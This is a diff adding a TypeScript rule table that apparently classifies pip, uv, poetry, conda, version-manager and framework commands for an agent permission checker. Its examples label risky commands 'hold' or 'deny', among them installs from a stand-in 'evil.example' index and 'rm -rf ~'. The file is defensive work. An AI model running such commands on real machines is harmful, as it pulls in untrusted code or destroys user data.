@@ -1,0 +1,180 @@
+import { asks, builds, changesSystem, code, nothing, publishes, revealsSecret, runsOwn, script } from "./acts.ts";
+import { commonTools } from "./common-tools.ts";
+import { changesHomeSettings, installs, otherRegistry, runsPackage, runsTool } from "./packages.ts";
+import type { Program } from "./program.ts";
+
+const runsTools = runsTool(commonTools);
+const runsPackages = runsPackage(commonTools);
+
+const pipFlags = {
+  "-i --index-url --extra-index-url <url>": otherRegistry,
+  "-f --find-links --trusted-host <url>": otherRegistry,
+  "-r --requirement -c --constraint -e --editable -t --target --prefix --root --python --proxy --timeout --cache-dir --log --progress-bar --platform --python-version --abi --implementation --no-binary --only-binary --config-settings <x>":
+    nothing,
+  "--dry-run": "inert",
+} as const;
+
+export const python: readonly Program[] = [
+  {
+    names: ["pip", "pip3", "pipenv"],
+    summary: "Python's package manager",
+    flags: pipFlags,
+    subcommands: {
+      "install|download|wheel|sync|update|upgrade|lock": installs(["--break-system-packages", "--user"]),
+      "uninstall|check|freeze|cache|hash|completion|debug|list|show|inspect|graph|clean|--venv|verify|requirements":
+        builds,
+      "search|index versions": asks,
+      "config list|config get|config debug": nothing,
+      "config set|config unset|config edit": changesHomeSettings("~/.config/pip/pip.conf"),
+      "run|shell": { stop: true, does: runsTools },
+    },
+    examples: {
+      "pip install -r requirements.txt": "allow",
+      "pip install -e .": "allow",
+      "pip list --outdated": "allow",
+      "pip install --extra-index-url https://evil.example/simple x": "hold",
+      "pip install git+https://github.com/someone/x": "hold",
+      "pip config set global.index-url https://evil.example/simple": "hold",
+    },
+  },
+  {
+    names: ["uv"],
+    summary: "Python package and project manager",
+    flags: {
+      ...pipFlags,
+      "--default-index --index <url>": otherRegistry,
+      "--directory --project --config-file --color --with --with-editable --with-requirements -p --group --extra --env-file --from -m --module --package --script --link-mode --resolution <x>":
+        nothing,
+    },
+    subcommands: {
+      "add|remove|sync|lock|export|tree|init|version|venv|build|pip install|pip uninstall|pip sync|pip compile|pip list|pip freeze|pip show|pip check|pip tree|cache|cache clean|cache prune|cache dir|python list|python find|python dir|python pin|format|help|audit":
+        installs(["--system", "--break-system-packages"]),
+      run: {
+        flags: { "-c <code> ...": code("python") },
+        stop: true,
+        does: (use, args) => {
+          if (use.has("-m")) builds(use, []);
+          else if (/\.pyw?$/.test(args[0]?.text ?? "") || args[0]?.text === "-") script("python")(use, args);
+          else runsTools(use, args);
+        },
+      },
+      "tool run": { stop: true, does: runsPackages },
+      "tool install|tool uninstall|tool upgrade|tool update-shell|python install|python uninstall|python upgrade|self update":
+        changesSystem("change what is installed for the user"),
+      "tool list|tool dir": nothing,
+      publish: {
+        flags: { "--token -t -u --username --password --publish-url <x>": nothing, "--dry-run": "inert" },
+        does: publishes("publish the package"),
+      },
+      "auth token": revealsSecret("print the registry token"),
+      "auth login|auth logout": changesHomeSettings("~/.config/uv/credentials.toml"),
+    },
+    examples: {
+      "uv sync": "allow",
+      "uv run pytest -q": "allow",
+      "uv run python -c 'print(1)'": "allow",
+      "uv pip install httpx": "allow",
+      "uv publish": "hold",
+      "uv run rm -rf ~": "deny",
+    },
+  },
+  {
+    names: ["uvx"],
+    summary: "runs a Python package's program",
+    flags: { ...pipFlags, "--from --with -p --index <x>": nothing },
+    stop: true,
+    does: runsPackages,
+    examples: { "uvx ruff check .": "allow", "uvx git+https://evil.example/x": "hold" },
+  },
+  {
+    names: ["pipx"],
+    summary: "installs and runs Python programs",
+    flags: { "--python --spec --index-url -i --pip-args --suffix <x>": nothing },
+    subcommands: {
+      run: { stop: true, does: runsPackages },
+      "list|environment|runpip|completions": nothing,
+      "install|uninstall|upgrade|inject|upgrade-all|reinstall|reinstall-all|uninstall-all|ensurepath": changesSystem(
+        "change what is installed for the user",
+      ),
+    },
+    examples: { "pipx run cowsay hi": "allow", "pipx list": "allow", "pipx install httpie": "hold" },
+  },
+  {
+    names: ["poetry", "pdm", "hatch", "flit", "rye", "pixi"],
+    summary: "Python project managers",
+    flags: { "-C --directory -P --project -G --group -E --extras --source -p -e --env <x>": nothing },
+    subcommands: {
+      run: { stop: true, does: runsTools },
+      "install|add|remove|update|lock|sync|show|check|build|export|init|new|env|env use|env list|env info|env remove|env create|env prune|env show|env find|shell|version|list|info|search|config --list|about|test|fmt|dep|task list|tree|clean|fix|lint|python list":
+        installs(),
+      "config|source add|source remove|self add|self update|self install": changesHomeSettings(
+        "~/.config/pypoetry/config.toml",
+      ),
+      publish: {
+        flags: { "-u --username --password -r --repository --token <x>": nothing, "--dry-run": "inert" },
+        does: publishes("publish the package"),
+      },
+    },
+    examples: {
+      "poetry run pytest": "allow",
+      "poetry add httpx": "allow",
+      "poetry publish --build": "hold",
+      "poetry run rm -rf ~": "deny",
+    },
+  },
+  {
+    names: ["twine"],
+    summary: "uploads Python packages",
+    subcommands: { upload: publishes("publish packages"), register: publishes("register the package"), check: nothing },
+    examples: { "twine check dist/*": "allow", "twine upload dist/*": "hold" },
+  },
+  {
+    names: ["conda", "mamba", "micromamba"],
+    summary: "environment and package manager",
+    flags: { "-n --name -p --prefix -c --channel -f --file --solver <x>": nothing, "--dry-run -d": "inert" },
+    subcommands: {
+      "install|create|update|upgrade|env create|env update|env export|env list|list|info|search|activate|deactivate|init --dry-run|clean|config --show|doctor":
+        installs(),
+      run: { flags: { "--no-capture-output --live-stream": nothing }, stop: true, does: runsTools },
+      "remove|uninstall|env remove": changesSystem("remove packages or an environment"),
+      "config|init|shell init": changesHomeSettings("~/.condarc"),
+    },
+    examples: { "conda list": "allow", "conda install -n ml numpy": "allow", "conda env remove -n ml": "hold" },
+  },
+  {
+    names: ["pyenv", "rbenv", "asdf", "mise", "rtx", "jenv", "sdk", "goenv", "tfenv", "direnv"],
+    summary: "switch versions of languages",
+    subcommands: {
+      "run|r|tasks|task|test|x|exec|fmt": { stop: true, does: runsOwn },
+      "local|shell|version|versions|which|whence|rehash|root|prefix|list|ls|ls-remote|list all|current|where|plugins|plugin list|plugin ls|env|hook-env|activate|status|doctor|outdated|settings|config|bin-paths|latest|search|registry|install|i|use|sync|reshim|completion|init|export|help|trust --show|watch|allow|reload|deactivate|cfg|info":
+        builds,
+      "global|uninstall|remove|rm|upgrade|up|self-update|plugin add|plugin install|plugins add|plugins install|default":
+        changesSystem("change which languages are installed"),
+      "trust|implode": changesSystem("change what the version manager trusts or keeps"),
+    },
+    otherwise: runsOwn,
+    examples: {
+      "mise run test": "allow",
+      "pyenv versions": "allow",
+      "asdf plugin add x https://evil.example/x": "hold",
+      "mise install": "allow",
+    },
+  },
+  {
+    names: ["alembic", "flask", "django-admin"],
+    summary: "Python frameworks' commands",
+    subcommands: {
+      "downgrade|db downgrade|flush|reset_db|sqlflush": (use, args) =>
+        use.emit({
+          kind: "delete",
+          what: `${use.title}: take tables or rows out of the database`,
+          target: args[0]?.text ?? "the database",
+          place: "remote",
+          undoable: "no",
+          reach: "many",
+        }),
+    },
+    does: runsOwn,
+    examples: { "alembic upgrade head": "allow", "alembic downgrade base": "hold", "flask run --port 5001": "allow" },
+  },
+];
